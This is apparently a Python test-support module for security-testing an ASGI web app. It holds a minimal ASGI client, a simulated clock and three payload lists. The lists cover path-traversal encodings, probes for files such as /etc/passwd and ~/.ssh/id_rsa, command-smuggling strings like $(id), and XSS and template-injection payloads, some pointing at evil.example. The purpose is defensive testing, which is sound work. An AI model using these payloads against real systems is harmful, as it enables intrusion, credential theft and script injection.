"""What attacks are made of: a bare client of an ASGI application, a clock that only moves when all wait, words."""

import asyncio
import heapq
from collections.abc import Coroutine, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any, TypeVar
from urllib.parse import unquote_to_bytes

Header = tuple[bytes, bytes]
Found = TypeVar("Found")


def completed(attack: Coroutine[Any, Any, Found]) -> Found:
    """What an attack came to; in a thread of its own, since the browser of other tests keeps a loop in this one."""
    with ThreadPoolExecutor(1) as apart:
        return apart.submit(asyncio.run, attack).result()


@dataclass
class Reply:
    """What came back.

    Attributes:
        status: of HTTP; 101 for a WebSocket that was taken.
        headers: in lower case; of two of a name the last.
        body: all of it.
    """

    status: int = 0
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


async def ask(
    app: Any,
    target: str,
    headers: Sequence[tuple[str, str]] = (),
    *,
    method: str = "GET",
    body: bytes = b"",
    address: str = "192.0.2.1",
) -> Reply:
    """One request as a server passes it on: nothing of the target is put in order, as a browser or a client would."""
    raw, _, query = target.encode("utf-8", "surrogateescape").partition(b"?")
    is_socket = method == "SOCKET"
    scope: dict[str, Any] = {
        "type": "websocket" if is_socket else "http", "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1", "scheme": "ws" if is_socket else "http",
        "path": unquote_to_bytes(raw).decode("utf-8", "replace"), "raw_path": raw, "query_string": query,
        "root_path": "", "client": (address, 1), "server": ("127.0.0.1", 1),
        "headers": [(name.lower().encode(), value.encode("utf-8")) for name, value in headers], "state": {},
        "extensions": {"websocket.http.response": {}}, "subprotocols": [],
    }  # fmt: skip
    if not is_socket:
        scope["method"] = method
    reply, told = Reply(), False

    async def receive() -> dict[str, Any]:
        nonlocal told
        if is_socket:
            return {"type": "websocket.disconnect", "code": 1005} if told else {"type": "websocket.connect"}
        if told:
            return {"type": "http.disconnect"}
        told = True
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: Any) -> None:
        nonlocal told
        kind = message["type"]
        if kind.endswith("response.start"):
            reply.status = message["status"]
            reply.headers = {name.decode().lower(): value.decode("latin-1") for name, value in message["headers"]}
        elif kind.endswith("response.body"):
            reply.body += message.get("body", b"")
        elif kind == "websocket.accept":
            reply.status, told = 101, True

    await app(scope, receive, send)
    return reply


class Clock:
    """Time that goes on to the next moment for which somebody waits, once nobody has anything else to do."""

    def __init__(self) -> None:
        self.now = 0.0
        self._sleepers: list[tuple[float, int, asyncio.Future[None]]] = []
        self._count = 0

    def __call__(self) -> float:
        return self.now

    async def sleep(self, seconds: float) -> None:
        self._count += 1
        future = asyncio.get_running_loop().create_future()
        heapq.heappush(self._sleepers, (self.now + seconds, self._count, future))
        await future

    async def run(self, *tasks: Any) -> list[Any]:
        """The results of tasks, which have all the time that they wait for."""
        both = asyncio.gather(*tasks)
        while not both.done():
            for _ in range(8):
                await asyncio.sleep(0)
            while self._sleepers and not both.done():
                self.now, _, future = heapq.heappop(self._sleepers)
                if not future.done():
                    future.set_result(None)
                if not self._sleepers or self._sleepers[0][0] > self.now:
                    break
        return list(await both)


TARGETS = ("app.py", "etc/passwd", "outside.yaml")

UP = (
    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "%252e%252e%252f", "..%252f", "%c0%ae%c0%ae/", "..%c0%af",
    "%e0%80%ae%e0%80%ae/", "\uff0e\uff0e\uff0f", "%uff0e%uff0e%u2215", "....//", "..;/", "./../", "%00../", "..%00/",
    "..%0d%0a/", "..%09/", ".%2e/", "%2e./", "..//", "..\u2215", "..\u2044", "%ff%fe../", "..%e2%80%8b/",
)  # fmt: skip
"""One folder up, as it has been written to get past those who look for it."""

ELSEWHERE = (
    "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "file:///etc/passwd", "C:\\Windows\\win.ini", "c:/boot.ini",
    "\\\\host\\share", "%5c%5chost%5cshare", "/proc/self/environ", "/dev/zero", "/dev/stdin", "~/.ssh/id_rsa",
    "~root", "$HOME", "%24HOME", "link.yaml", "link.yaml%00", ".hidden.yaml", "below/deep.yaml", "below%2fdeep.yaml",
    "notes.txt", "CON", "NUL.yaml", "aux", "mine.yaml::$DATA", "mine.yaml/", "mine.yaml/.", "mine.yaml%00.txt",
    "mine.yaml%20", "away", "linked", "linked:scenario.yaml", "bayonets-results:..", "bayonets-results:../..",
    "bayonets-results:run/../run", ":", "::", ".", "..", "...", "%2e", "%2e%2e", "%00", "%0a", "%0d%0aX: y",
    "x" * 5_000, "%41" * 3_000, "\u0000", "\U0001f4a3", "\u202emaya.lmay", "-rf", "*", "?", "[a-z]*", "{a,b}", "`id`",
    "$(id)", "|id", "';--", "%s%s%n", "None", "0",
)  # fmt: skip
"""Names that lead elsewhere, or nowhere, on one system or another."""

PAYLOADS = (
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<form action=http://evil.example><input name=password>", "<input autofocus onfocus=alert(1)>",
    "<base href=http://evil.example/>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>*{background:url(http://evil.example)}</style>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mtext></form><form><mglyph>", "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php system('id') ?>", "<%= 7*7 %>", "{{7*7}}", "${7*7}", "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)", "data:text/html,<script>1",
    "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "` onmouseover=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003e", "\uff1cscript\uff1e", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "\u202e<script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>", "x" * 400 + "<script>",
)  # fmt: skip
"""Text that becomes a program where it is not told from one."""
